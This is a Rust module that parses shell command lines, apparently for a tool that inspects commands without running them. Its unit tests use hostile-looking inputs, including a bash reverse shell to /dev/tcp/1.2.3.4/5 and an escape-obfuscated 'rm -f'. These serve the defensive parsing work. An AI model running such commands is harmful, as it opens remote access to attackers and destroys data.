// SPDX-License-Identifier: Apache-2.0
//! Takes a shell line apart: commands, words, redirections, here-documents, what is nested in quotes.
//!
//! It runs nothing and expands nothing. Every text has an answer: what is not closed ends with the text, what is nested
//! deeper or is more than the limits is left as a word, so no input makes it fail or take more than linear time per
//! level.

use std::ops::Range;

use super::programs::{INTERPRETERS, SHELLS, WRAPPERS};

/// How deep lines inside lines are followed: `sh -c "sh -c ..."`, `$( $( ) )`.
const MAX_DEPTH: u8 = 5;
/// How a command follows the one before it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Join {
    /// It is the first, or comes after `;`, a newline, `&&`, `||`, `&`.
    After,
    /// Its input is the output of the one before.
    Pipe,
    /// It is written inside the one before: a substitution, an argument of `sh -c`.
    Inside,
    /// It is the rest of the arguments of the one before: `sudo`, `xargs`, `find -exec`.
    Wrapped,
}

#[derive(Clone, Debug)]
pub(crate) struct Command {
    /// Program and arguments, quotes removed; assignments before the program are not in it.
    pub words: Vec<Word>,
    pub assignments: Vec<Word>,
    pub redirects: Vec<Redirect>,
    pub join: Join,
    pub depth: u8,
    /// Text that goes to its standard input: here-document, here-string.
    pub input: Option<String>,
    /// Where it stands in the outermost line.
    pub span: Range<usize>,
    /// The program that started it in the same line: `sudo`, `xargs`, `find`.
    pub wrapper: Option<String>,
}

#[derive(Clone, Debug, Default, PartialEq)]
pub(crate) struct Word {
    pub text: String,
    pub quoted: bool,
    /// Program text in a language that is not the shell's.
    pub code: bool,
    /// Its text was followed as commands of their own, and counts there.
    pub followed: bool,
}

#[derive(Clone, Debug, PartialEq)]
pub(crate) struct Redirect {
    /// `<`, `>`, `>>`, `<>`, `>&`, `<&`, `>|`, with the descriptor when one was named.
    pub operator: String,
    pub target: String,
}

/// The commands of `line`, outer before inner, at most `limit` of them.
pub(crate) fn parse(line: &str, limit: usize) -> Vec<Command> {
    let mut parser = Parser { out: Vec::new(), limit };
    parser.line(line, 0, 0..line.len(), true, None, Join::After);
    parser.out
}

/// The commands of one execution, whose arguments are known exactly.
pub(crate) fn from_args(args: &[String], limit: usize) -> Vec<Command> {
    let mut parser = Parser { out: Vec::new(), limit };
    // A shell would have needed quotes for it: then it is a text, as it is in a line.
    let quoted = |arg: &str| arg.contains(|c: char| c.is_whitespace() || "\"'`$&|;<>(){}*?#!\\".contains(c));
    let words = args.iter().map(|arg| Word { text: arg.clone(), quoted: quoted(arg), ..Word::default() }).collect();
    let length = args.iter().map(|arg| arg.len() + 1).sum::<usize>();
    parser.finish(
        Command {
            words,
            assignments: Vec::new(),
            redirects: Vec::new(),
            join: Join::After,
            depth: 0,
            input: None,
            span: 0..length,
            wrapper: None,
        },
        Vec::new(),
    );
    parser.out
}

/// The last component of a program's path, without a version: `/usr/bin/python3.11` is `python`.
pub(crate) fn program_name(word: &str) -> String {
    let base = word.rsplit('/').next().unwrap_or(word);
    let base = base.trim_start_matches('-');
    let bare = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-');
    let versioned = [
        "python", "pypy", "perl", "ruby", "php", "lua", "node", "gcc", "g++", "clang", "pip", "vim", "sqlite", "tclsh",
    ];
    if versioned.contains(&bare) { bare.to_owned() } else { base.to_owned() }
}

struct Parser {
    out: Vec<Command>,
    limit: usize,
}

/// A here-document that has been announced and not yet been read.
struct Pending {
    delimiter: String,
    command: usize,
}

impl Parser {
    /// Parses `text`, which stands at `place` of the outermost line; `exact` says that offsets agree.
    fn line(&mut self, text: &str, depth: u8, place: Range<usize>, exact: bool, wrapper: Option<&str>, first: Join) {
        let bytes = text.as_bytes();
        let mut at = 0;
        let mut join = first;
        let mut commands: Vec<(Command, Vec<String>)> = Vec::new();
        let mut pending: Vec<Pending> = Vec::new();
        let new = |join: Join, at: usize| Command {
            words: Vec::new(),
            assignments: Vec::new(),
            redirects: Vec::new(),
            join,
            depth,
            input: None,
            span: if exact { at..at } else { place.clone() },
            wrapper: wrapper.map(str::to_owned),
        };
        let mut command = new(join, 0);
        let mut nested: Vec<String> = Vec::new();
        macro_rules! end {
            ($next:expr) => {{
                if !command.words.is_empty() || !command.assignments.is_empty() || !command.redirects.is_empty() {
                    if exact {
                        command.span.end = at.min(text.len());
                    }
                    commands.push((std::mem::replace(&mut command, new($next, at)), std::mem::take(&mut nested)));
                }
                join = $next;
                command.join = join;
                if exact {
                    command.span = at..at;
                }
            }};
        }
        while at < bytes.len() {
            if self.out.len() + commands.len() >= self.limit {
                break;
            }
            match bytes[at] {
                b' ' | b'\t' | b'\r' => at += 1,
                b'\\' if bytes.get(at + 1) == Some(&b'\n') => at += 2,
                b'\n' => {
                    end!(Join::After);
                    at += 1;
                    for document in std::mem::take(&mut pending) {
                        let (body, after) = document_body(text, at, &document.delimiter);
                        let receiver = commands.get_mut(document.command).map(|(command, _)| command);
                        if let Some(command) = receiver {
                            command.input = Some(body.to_owned());
                        }
                        at = after;
                    }
                    if exact {
                        command.span = at..at;
                    }
                }
                b'#' if at == 0 || matches!(bytes[at - 1], b' ' | b'\t' | b'\n' | b';') => {
                    at += text[at..].find('\n').unwrap_or(text.len() - at);
                }
                b';' => {
                    end!(Join::After);
                    at += 1;
                }
                b'|' => {
                    let double = bytes.get(at + 1) == Some(&b'|');
                    end!(if double { Join::After } else { Join::Pipe });
                    at += if double || bytes.get(at + 1) == Some(&b'&') { 2 } else { 1 };
                }
                b'&' if bytes.get(at + 1) == Some(&b'>') => {
                    let append = bytes.get(at + 2) == Some(&b'>');
                    at += if append { 3 } else { 2 };
                    let (word, after) = self.word(text, at, &mut nested);
                    command.redirects.push(Redirect { operator: "&>".to_owned(), target: word.text });
                    at = after;
                }
                b'&' => {
                    at += if bytes.get(at + 1) == Some(&b'&') { 2 } else { 1 };
                    end!(Join::After);
                }
                b'(' | b')' => {
                    end!(Join::After);
                    at += 1;
                }
                b'{' | b'}' if bytes.get(at + 1).is_none_or(|next| matches!(next, b' ' | b'\n' | b';' | b'\t')) => {
                    end!(join);
                    at += 1;
                }
                b'<' | b'>' => {
                    let (operator, length) = operator(&bytes[at..]);
                    // The descriptor, when the word before ends here: `2>`.
                    let mut descriptor = String::new();
                    let glued = at > 0 && bytes[at - 1].is_ascii_digit();
                    if glued
                        && let Some(last) = command.words.last()
                        && last.text.len() <= 3
                        && !last.quoted
                        && last.text.bytes().all(|byte| byte.is_ascii_digit())
                    {
                        descriptor = last.text.clone();
                        command.words.pop();
                    }
                    at += length;
                    if operator == "(" {
                        // `<( )` and `>( )`: a command inside.
                        let end = closing(text, at, b'(', b')');
                        nested.push(text[at..end].to_owned());
                        command.words.push(Word { text: "<()".to_owned(), ..Word::default() });
                        at = (end + 1).min(text.len());
                        continue;
                    }
                    let (word, after) = self.word(text, at, &mut nested);
                    at = after;
                    match operator {
                        "<<" | "<<-" => {
                            pending.push(Pending { delimiter: word.text, command: commands.len() });
                            // `cmd <<X` at the end of the text has no body.
                        }
                        "<<<" => command.input = Some(word.text),
                        _ => command
                            .redirects
                            .push(Redirect { operator: format!("{descriptor}{operator}"), target: word.text }),
                    }
                }
                _ => {
                    let start = at;
                    let (word, after) = self.word(text, at, &mut nested);
                    at = after.max(start + 1);
                    if command.words.is_empty() && !word.quoted && is_keyword(&word.text) {
                        if exact {
                            command.span.start = at;
                        }
                        continue;
                    }
                    if command.words.is_empty() && is_assignment(&word.text) {
                        command.assignments.push(word);
                    } else {
                        if command.words.is_empty() && command.assignments.is_empty() && exact {
                            command.span.start = start;
                        }
                        command.words.push(word);
                    }
                }
            }
        }
        at = text.len();
        end!(Join::After);
        // What is piped from `echo` into a shell is a line.
        let mut before: Option<String> = None;
        for (mut command, nested) in commands {
            if command.join != Join::Pipe {
                before = None;
            }
            let name = command.words.first().map(|word| program_name(&word.text)).unwrap_or_default();
            let says = matches!(name.as_str(), "echo" | "printf").then(|| {
                command.words[1..]
                    .iter()
                    .filter(|word| !word.text.starts_with('-'))
                    .map(|word| word.text.as_str())
                    .collect::<Vec<_>>()
                    .join(" ")
            });
            if let Some(said) = before.take()
                && command.input.is_none()
            {
                command.input = Some(said);
            }
            self.finish(command, nested);
            before = says;
        }
    }

    /// Adds `command` and what is inside it.
    fn finish(&mut self, mut command: Command, nested: Vec<String>) {
        if self.out.len() >= self.limit {
            return;
        }
        let depth = command.depth;
        let span = command.span.clone();
        let name = command.words.first().map(|word| program_name(&word.text)).unwrap_or_default();
        let mut inner: Vec<(String, Option<String>)> = nested.into_iter().map(|text| (text, None)).collect();
        let mut inner_words: Option<Vec<Word>> = None;
        if depth < MAX_DEPTH {
            if SHELLS.contains(&name.as_str()) {
                if let Some(at) = option_with_value(&command.words, &["-c"], true) {
                    command.words[at].followed = true;
                    inner.push((command.words[at].text.clone(), Some(name.clone())));
                } else if let Some(input) = &command.input {
                    inner.push((input.clone(), Some(name.clone())));
                }
            } else if matches!(name.as_str(), "eval" | "source" | ".") && command.words.len() > 1 {
                let joined = command.words[1..].iter().map(|word| word.text.as_str()).collect::<Vec<_>>().join(" ");
                if name == "eval" {
                    command.words[1..].iter_mut().for_each(|word| word.followed = true);
                    inner.push((joined, Some(name.clone())));
                }
            } else if matches!(name.as_str(), "su" | "runuser" | "script" | "flock") {
                if let Some(at) = option_with_value(&command.words, &["-c", "--command"], true) {
                    command.words[at].followed = true;
                    inner.push((command.words[at].text.clone(), Some(name.clone())));
                }
            } else if matches!(name.as_str(), "trap" | "alias" | "watch") && command.words.len() > 1 {
                let at = if name == "trap" { 1 } else { command.words.len() - 1 };
                let text = command.words[at].text.clone();
                inner.push((
                    text.split_once('=').map_or(text.clone(), |(_, value)| value.to_owned()),
                    Some(name.clone()),
                ));
            } else if let Some(rest) = find_exec(&name, &command.words) {
                inner_words = Some(rest);
            } else if let Some((_, with_value)) = WRAPPERS.iter().find(|(wrapper, _)| *wrapper == name) {
                inner_words = wrapped(&name, &command.words, with_value);
                if name == "ssh"
                    && let Some(words) = inner_words.take()
                {
                    let joined = words.iter().map(|word| word.text.as_str()).collect::<Vec<_>>().join(" ");
                    inner.push((joined, Some(name.clone())));
                }
            } else if matches!(name.as_str(), "docker" | "podman" | "kubectl" | "lxc" | "crictl") {
                inner_words = shell_inside(&command.words);
            }
        }
        mark_code(&name, &mut command.words);
        // The outer program's words are not those of the inner command: they would count twice.
        if let Some(rest) = &inner_words {
            let keep = command.words.len().saturating_sub(rest.len()).max(1);
            command.words.truncate(keep);
        }
        self.out.push(command);
        if let Some(words) = inner_words
            && !words.is_empty()
        {
            let inside = Command {
                words,
                assignments: Vec::new(),
                redirects: Vec::new(),
                join: Join::Wrapped,
                depth: depth + 1,
                input: None,
                span: span.clone(),
                wrapper: Some(name.clone()),
            };
            self.finish(inside, Vec::new());
        }
        if depth < MAX_DEPTH {
            for (text, wrapper) in inner {
                self.line(&text, depth + 1, span.clone(), false, wrapper.as_deref(), Join::Inside);
            }
        }
    }

    /// The word at `at`, quotes removed, and where it ends; substitutions go to `nested`.
    fn word(&self, text: &str, mut at: usize, nested: &mut Vec<String>) -> (Word, usize) {
        let bytes = text.as_bytes();
        while at < bytes.len() && matches!(bytes[at], b' ' | b'\t') {
            at += 1;
        }
        let mut out = String::new();
        let mut quoted = false;
        while at < bytes.len() {
            match bytes[at] {
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'|' | b'&' | b'<' | b'>' | b')' => break,
                b'(' if !out.ends_with('=') && !out.ends_with('$') => break,
                b'(' => {
                    let end = closing(text, at + 1, b'(', b')');
                    out.push_str(&text[at..(end + 1).min(text.len())]);
                    at = (end + 1).min(text.len());
                }
                b'\\' => {
                    let next = text[at + 1..].chars().next();
                    match next {
                        Some('\n') => {}
                        Some(c) => out.push(c),
                        None => out.push('\\'),
                    }
                    at += 1 + next.map_or(0, char::len_utf8);
                }
                b'\'' => {
                    quoted = true;
                    let start = at + 1;
                    let end = text[start..].find('\'').map_or(text.len(), |found| start + found);
                    if out.ends_with('$') {
                        out.pop();
                        out.push_str(&ansi_c(&text[start..end]));
                    } else {
                        out.push_str(&text[start..end]);
                    }
                    at = (end + 1).min(text.len());
                }
                b'"' => {
                    quoted = true;
                    at += 1;
                    while at < bytes.len() && bytes[at] != b'"' {
                        match bytes[at] {
                            b'\\' => {
                                let next = text[at + 1..].chars().next();
                                match next {
                                    Some(c @ ('"' | '\\' | '$' | '`')) => out.push(c),
                                    Some('\n') => {}
                                    Some(c) => {
                                        out.push('\\');
                                        out.push(c);
                                    }
                                    None => {}
                                }
                                at += 1 + next.map_or(0, char::len_utf8);
                            }
                            b'$' if bytes.get(at + 1) == Some(&b'(') && bytes.get(at + 2) != Some(&b'(') => {
                                at = substitution(text, at + 2, b'(', b')', nested, &mut out);
                            }
                            b'`' => at = backquoted(text, at, nested, &mut out),
                            _ => at = push_char(text, at, &mut out),
                        }
                    }
                    at = (at + 1).min(text.len());
                }
                b'$' if bytes.get(at + 1) == Some(&b'(') && bytes.get(at + 2) != Some(&b'(') => {
                    at = substitution(text, at + 2, b'(', b')', nested, &mut out);
                }
                b'`' => at = backquoted(text, at, nested, &mut out),
                _ => at = push_char(text, at, &mut out),
            }
        }
        (Word { text: out, quoted, code: false, followed: false }, at)
    }
}

fn push_char(text: &str, at: usize, out: &mut String) -> usize {
    match text[at..].chars().next() {
        Some(c) => {
            out.push(c);
            at + c.len_utf8()
        }
        None => at + 1,
    }
}

fn substitution(text: &str, start: usize, open: u8, close: u8, nested: &mut Vec<String>, out: &mut String) -> usize {
    let end = closing(text, start, open, close);
    nested.push(text[start..end].to_owned());
    out.push_str("$()");
    (end + 1).min(text.len())
}

fn backquoted(text: &str, at: usize, nested: &mut Vec<String>, out: &mut String) -> usize {
    let start = at + 1;
    let end = text[start..].find('`').map_or(text.len(), |found| start + found);
    nested.push(text[start..end].to_owned());
    out.push_str("$()");
    (end + 1).min(text.len())
}

/// Where the bracket that was opened just before `at` is closed, quotes respected; the end of the text otherwise.
fn closing(text: &str, mut at: usize, open: u8, close: u8) -> usize {
    let bytes = text.as_bytes();
    let mut level = 1_usize;
    while at < bytes.len() {
        match bytes[at] {
            b'\\' => at += 1,
            b'\'' => at = text[at + 1..].find('\'').map_or(bytes.len(), |found| at + 1 + found),
            b'"' => {
                at += 1;
                while at < bytes.len() && bytes[at] != b'"' {
                    at += if bytes[at] == b'\\' { 2 } else { 1 };
                }
            }
            byte if byte == open => level += 1,
            byte if byte == close => {
                level -= 1;
                if level == 0 {
                    return at;
                }
            }
            _ => {}
        }
        at += 1;
    }
    bytes.len()
}

/// The body of a here-document that starts at `at`, and where the text goes on.
fn document_body<'a>(text: &'a str, at: usize, delimiter: &str) -> (&'a str, usize) {
    let start = at.min(text.len());
    let mut line = start;
    while line < text.len() {
        let end = text[line..].find('\n').map_or(text.len(), |found| line + found);
        if text[line..end].trim_start_matches('\t').trim_end() == delimiter {
            return (&text[start..line], (end + 1).min(text.len()));
        }
        line = end + 1;
    }
    (&text[start..], text.len())
}

/// The redirection operator at the start of `bytes` and its length; `(` for a process substitution.
fn operator(bytes: &[u8]) -> (&'static str, usize) {
    for (text, name) in [
        ("<<<", "<<<"),
        ("<<-", "<<-"),
        ("<<", "<<"),
        ("<>", "<>"),
        ("<&", "<&"),
        ("<(", "("),
        (">>", ">>"),
        (">&", ">&"),
        (">|", ">"),
        (">(", "("),
        ("<", "<"),
    ] {
        if bytes.starts_with(text.as_bytes()) {
            return (name, text.len());
        }
    }
    (">", 1)
}

/// `$'..'`: the escapes that matter for hiding text.
fn ansi_c(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('r') => out.push('\r'),
            Some('x') => {
                let mut value = 0;
                let mut count = 0;
                while count < 2
                    && let Some(digit) = chars.peek().and_then(|c| c.to_digit(16))
                {
                    value = value * 16 + digit;
                    chars.next();
                    count += 1;
                }
                out.push(char::from_u32(value).unwrap_or('\u{fffd}'));
            }
            Some(first @ '0'..='7') => {
                let mut value = first.to_digit(8).unwrap_or(0);
                let mut count = 1;
                while count < 3
                    && let Some(digit) = chars.peek().and_then(|c| c.to_digit(8))
                {
                    value = value * 8 + digit;
                    chars.next();
                    count += 1;
                }
                out.push(char::from_u32(value & 0xff).unwrap_or('\u{fffd}'));
            }
            Some(other) => out.push(other),
            None => out.push('\\'),
        }
    }
    out
}

fn is_keyword(word: &str) -> bool {
    matches!(
        word,
        "if" | "then" | "else" | "elif" | "fi" | "do" | "done" | "while" | "until" | "!" | "esac" | "in" | "coproc"
    )
}

/// `NAME=value`, `NAME+=value`.
fn is_assignment(word: &str) -> bool {
    let Some((name, _)) = word.split_once('=') else { return false };
    let name = name.strip_suffix('+').unwrap_or(name);
    !name.is_empty()
        && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
        && !name.as_bytes()[0].is_ascii_digit()
}

/// The index of the argument of the first of `options`; with `combined` also `-lc`.
fn option_with_value(words: &[Word], options: &[&str], combined: bool) -> Option<usize> {
    for (at, word) in words.iter().enumerate().skip(1) {
        let text = word.text.as_str();
        let short = combined
            && text.starts_with('-')
            && !text.starts_with("--")
            && text.ends_with('c')
            && text.len() <= 6
            && text[1..].bytes().all(|byte| byte.is_ascii_alphabetic());
        if (options.contains(&text) || short) && at + 1 < words.len() {
            return Some(at + 1);
        }
    }
    None
}

/// `find ... -exec CMD... ;`
fn find_exec(name: &str, words: &[Word]) -> Option<Vec<Word>> {
    if !matches!(name, "find" | "fd" | "fdfind") {
        return None;
    }
    let at =
        words.iter().position(|word| matches!(word.text.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir" | "-x"))?;
    Some(words[at + 1..].to_vec())
}

/// The command that a wrapper runs.
fn wrapped(name: &str, words: &[Word], with_value: &[&str]) -> Option<Vec<Word>> {
    let mut at = 1;
    let mut operands =
        usize::from(matches!(name, "timeout" | "chroot" | "ssh" | "flock" | "taskset" | "chrt" | "setarch"));
    while at < words.len() {
        let text = words[at].text.as_str();
        if text == "--" {
            at += 1;
            break;
        }
        if with_value.contains(&text) {
            at += 2;
        } else if (text.starts_with('-') && text.len() > 1)
            || (matches!(name, "env" | "sudo" | "doas") && is_assignment(text))
        {
            at += 1;
        } else if operands > 0 {
            operands -= 1;
            at += 1;
        } else {
            break;
        }
    }
    (at < words.len()).then(|| words[at..].to_vec())
}

/// `docker run ... sh -c LINE`: from the shell on.
fn shell_inside(words: &[Word]) -> Option<Vec<Word>> {
    let at = words.iter().skip(1).position(|word| {
        let name = program_name(&word.text);
        SHELLS.contains(&name.as_str()) || matches!(name.as_str(), "chroot" | "nsenter" | "python" | "perl")
    })? + 1;
    Some(words[at..].to_vec())
}

/// Marks the words that are programs of an interpreter.
fn mark_code(name: &str, words: &mut [Word]) {
    let Some((_, options)) = INTERPRETERS.iter().find(|(interpreter, _)| *interpreter == name) else { return };
    if matches!(name, "awk" | "gawk" | "mawk" | "nawk") {
        if let Some(word) = words.iter_mut().skip(1).find(|word| !word.text.starts_with('-') && word.quoted) {
            word.code = true;
        }
        return;
    }
    let mut follows = false;
    for word in words.iter_mut().skip(1) {
        if follows {
            word.code = true;
            follows = false;
            continue;
        }
        let text = word.text.as_str();
        let glued = !text.starts_with("--")
            && text.starts_with('-')
            && text.len() <= 8
            && options.iter().any(|option| option.len() == 2 && text.ends_with(&option[1..]));
        follows = options.contains(&text) || glued;
        // `-e'CODE'` in one word.
        if !follows && text.len() > 12 && options.iter().any(|option| option.len() == 2 && text.starts_with(option)) {
            word.code = true;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `depth:words`, redirections and input of each command.
    fn check(line: &str, expected: &[&str]) {
        let told: Vec<String> = parse(line, 1000)
            .iter()
            .map(|command| {
                let join = match command.join {
                    Join::After => "",
                    Join::Pipe => "|",
                    Join::Inside => "@",
                    Join::Wrapped => "w",
                };
                let mut text = format!("{}{join}:", command.depth);
                text.push_str(&command.words.iter().map(|word| word.text.as_str()).collect::<Vec<_>>().join(","));
                for redirect in &command.redirects {
                    text.push_str(&format!(" {}{}", redirect.operator, redirect.target));
                }
                if let Some(input) = &command.input {
                    text.push_str(&format!(" <<{input:?}"));
                }
                text
            })
            .collect();
        assert_eq!(told, expected, "{line}");
    }

    #[test]
    fn lines_are_taken_apart() {
        check("cd /a && ls -l | wc; x=1 y", &["0:cd,/a", "0:ls,-l", "0|:wc", "0:y"]);
        check("echo 'a;b' \"c|d\" e\\ f", &["0:echo,a;b,c|d,e f"]);
        check("bash -i >& /dev/tcp/1.2.3.4/5 0>&1", &["0:bash,-i >&/dev/tcp/1.2.3.4/5 0>&1"]);
        check("cat > a.sh <<'EOF'\nrm x\nEOF\nls", &["0:cat >a.sh <<\"rm x\\n\"", "0:ls"]);
        check("if a; then b; fi # c; d", &["0:a", "0:b"]);
        check("$'\\x72\\155' -f", &["0:rm,-f"]);
    }

    #[test]
    fn what_is_inside_is_followed() {
        check("sh -c 'a | b'", &["0:sh,-c,a | b", "1@:a", "1|:b"]);
        check("echo $(id)", &["0:echo,$()", "1@:id"]);
        check("sudo -u root cp a b", &["0:sudo,-u,root", "1w:cp,a,b"]);
        check("find . -exec rm {} \\;", &["0:find,.,-exec", "1w:rm,{},;"]);
        check("echo 'rm x' | sh", &["0:echo,rm x", "0|:sh <<\"rm x\"", "1@:rm,x"]);
        check("bash <<E\nrm x\nE", &["0:bash <<\"rm x\\n\"", "1@:rm,x"]);
    }

    #[test]
    fn what_is_not_closed_ends_with_the_text() {
        check("a 'b", &["0:a,b"]);
        check("a $(b", &["0:a,$()", "1@:b"]);
        check("cat <<X", &["0:cat"]);
        check("cat <<X\na", &["0:cat <<\"a\""]);
    }

    #[test]
    fn the_language_of_an_argument_is_known() {
        let commands = parse("python3 -c 'import os' x; perl -ne 'print'; awk '{print}' f", 10);
        let code: Vec<_> = commands
            .iter()
            .flat_map(|command| &command.words)
            .filter(|word| word.code)
            .map(|word| word.text.as_str())
            .collect();
        assert_eq!(code, ["import os", "print", "{print}"]);
    }
}
